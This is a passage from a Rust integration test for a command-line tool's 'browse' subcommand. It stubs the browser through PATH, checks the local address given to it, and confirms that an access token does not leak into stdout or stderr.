            .args(["browse"])
            .args([&sample().archive])
            .args(flags.iter().copied())
            .env("PATH", folder.path())
    };
    let quiet = Browsing::run(&run(&[]));
    assert_eq!(quiet.gets("INT").0, Some(0));
    assert!(!told.exists(), "stdout is a pipe");

    let browsing = Browsing::run(&run(&["--open"]));
    while !told.exists() {
        std::thread::yield_now();
    }
    let address = std::fs::read_to_string(&told).unwrap();
    let expected = format!("http://127.0.0.1:{}{}", browsing.port, browsing.first);
    assert_eq!(address, expected);
    assert_eq!(browsing.gets("INT").0, Some(0));

    // With --json it is the browser alone that learns the address.
    std::fs::remove_file(&told).unwrap();
    let running = run(&["--open", "--json"]).starts();
    while !told.exists() {
        std::thread::yield_now();
    }
    running.gets("INT");
    let said = running.ends_with(0);
    crate::output::assert_lines_are_ours(&said.json());
    let address = std::fs::read_to_string(&told).unwrap();
    let (_, token) = address.split_once("token=").unwrap();
    assert!(!said.stdout.contains(token) && !said.stderr.contains(token));
}
